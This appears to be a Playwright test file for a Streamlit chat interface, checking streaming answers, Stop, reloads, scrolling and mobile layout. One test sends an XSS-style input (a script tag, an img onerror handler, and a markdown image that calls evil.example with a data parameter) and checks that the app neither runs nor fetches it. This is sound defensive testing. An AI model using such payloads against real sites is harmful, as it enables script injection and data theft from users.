"""Live answers are painted over our own socket: the page stays alive, and nothing moves at the end."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, WebSocket, expect

from tests.browser.test_first_answer import choose_model, send

SLOW_PROMPT = "Tell me everything about lighthouses, at length, with examples and numbers"


def test_a_widget_answers_while_an_answer_streams(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """The panel is no prisoner of the stream: a change takes effect at once, and the stream goes on."""
    choose_model(page, "sim/slow")
    send(page, SLOW_PROMPT)
    answer = page.locator(".orp-answer")
    expect(answer).to_contain_text("lighthouses")

    choose_model(page, "sim/echo")

    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    before = answer.inner_text()
    expect(answer).not_to_have_text(before)
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("Stopped before the end")
    wait_idle(page)


def test_a_reload_in_the_middle_finds_the_answer_still_coming(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """The run goes on without the page, and the URL leads back to it."""
    choose_model(page, "sim/slow")
    send(page, SLOW_PROMPT)
    answer = page.locator(".orp-answer")
    expect(answer).to_contain_text("lighthouses")
    before = len(answer.inner_text())

    page.reload()

    expect(answer).to_contain_text("lighthouses")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    final = page.get_by_test_id("stChatMessage").nth(1)
    expect(final).to_contain_text("Stopped before the end")
    assert len(final.get_by_test_id("stMarkdownContainer").first.inner_text()) >= before
    wait_idle(page)


def test_stop_works_before_the_first_word(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """A provider that says nothing at all is stopped as well."""
    choose_model(page, "sim/hang")
    send(page, "Hello?")
    expect(page.get_by_text("Waiting for the first token")).to_be_visible()

    page.get_by_role("button", name="Stop").click()

    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("Stopped before the end")
    wait_idle(page)


def test_what_is_sent_while_an_answer_streams_is_kept(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """Typing goes on; a message sent too early comes back into the input."""
    choose_model(page, "sim/hang")
    send(page, "Hello?")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()

    send(page, "Too early")

    expect(page.get_by_test_id("stChatInputTextArea")).to_have_value("Too early")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_test_id("stChatMessage")).to_have_count(2)
    wait_idle(page)


def test_streamlits_own_socket_carries_nothing_of_a_live_answer(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """While the run streams, its words travel over /live alone."""
    carried: dict[str, list[str]] = {"/live": [], "other": []}

    def note(socket: WebSocket) -> None:
        place = "/live" if socket.url.endswith("/live") else "other"
        socket.on("framereceived", lambda data: carried[place].append(str(data)))

    page.on("websocket", note)
    page.reload()
    wait_idle(page)
    choose_model(page, "sim/slow")
    send(page, SLOW_PROMPT)
    # The answer quotes the prompt; "worth" and its like come from the model alone.
    expect(page.locator(".orp-answer")).to_contain_text("no model has read")
    during = "".join(carried["other"])
    assert "no model has read" not in during
    assert "no model has read" in re.sub(r"<[^>]+>", "", "".join(carried["/live"]))
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("Stopped before the end")
    wait_idle(page)


RECORD_LIVE = """() => {
  window.lastLive = null
  const look = () => {
    const answer = document.querySelector(".orp-answer")
    if (answer && answer.innerText.trim()) {
      window.lastLive = { text: answer.innerText, top: answer.getBoundingClientRect().top }
    }
    requestAnimationFrame(look)
  }
  look()
}"""

MARKDOWN = """# One heading

Some **bold** words, a [link](https://example.com/) and `code`.

- a list
- with -> an arrow

1. numbered
2. twice

> quoted

| a | b |
|---|---|
| 1 | 2 |

The end with 😀 and שלום."""


@pytest.mark.parametrize("text", [MARKDOWN, "Just a sentence.", "Emoji 👩‍👩‍👧 and عربي in one line"])
def test_the_last_live_text_is_the_final_text(page: Page, wait_idle: Callable[[Page], None], text: str) -> None:
    """What was read while it was written is what stays."""
    choose_model(page, "sim/echo")
    page.evaluate(RECORD_LIVE)
    send(page, text)
    answer = page.get_by_test_id("stChatMessage").nth(1)
    expect(answer).to_contain_text("out tokens")
    wait_idle(page)
    live = page.evaluate("window.lastLive")
    final = answer.get_by_test_id("stMarkdownContainer").first.inner_text()
    assert live["text"].split() == final.split()


def test_a_new_message_comes_into_view(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """Below a long answer, the next question and its answer are where the reader looks, also when it fails at once."""
    choose_model(page, "sim/echo")
    send(page, "\n\n".join(f"Paragraph {number}" for number in range(60)))
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("out tokens")
    page.locator("[data-testid=stMain]").evaluate("element => { element.scrollTop = 0 }")
    choose_model(page, "sim/out-of-credits")
    send(page, "And now?")
    expect(page.get_by_text("The credits do not cover this request.", exact=True)).to_be_in_viewport()
    wait_idle(page)


def test_markup_of_an_answer_runs_and_fetches_nothing(page: Page, wait_idle: Callable[[Page], None]) -> None:
    """A script stays text and a remote picture stays a link, live and afterwards."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    choose_model(page, "sim/echo")
    send(page, "<script>window.pwned = 1</script> ![secret](https://evil.example/?d=1) <img src=x onerror=alert(1)>")
    answer = page.get_by_test_id("stChatMessage").nth(1)
    expect(answer).to_contain_text("out tokens")
    wait_idle(page)
    assert page.evaluate("window.pwned") is None
    assert not [url for url in asked if "evil.example" in url]
    expect(answer.get_by_role("link", name="secret")).to_have_attribute("href", "https://evil.example/?d=1")
    expect(answer.locator("img")).to_have_count(0)


def test_a_phone_in_the_dark(open_page: Callable[..., Page], app: object, wait_idle: Callable[[Page], None]) -> None:
    """At 390 px the answer, Stop and the input fit, and nothing scrolls sideways."""
    page = open_page(app.url, viewport={"width": 390, "height": 844}, color_scheme="dark")  # type: ignore[attr-defined]
    send(page, "Plan a picnic for twelve people with a shopping list and a budget")
    expect(page.get_by_role("button", name="Stop")).to_be_in_viewport()
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_in_viewport()
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("out tokens", timeout=30_000)
    wait_idle(page)
    width = page.evaluate("document.querySelector('[data-testid=stMain]').scrollWidth")
    assert width <= 390
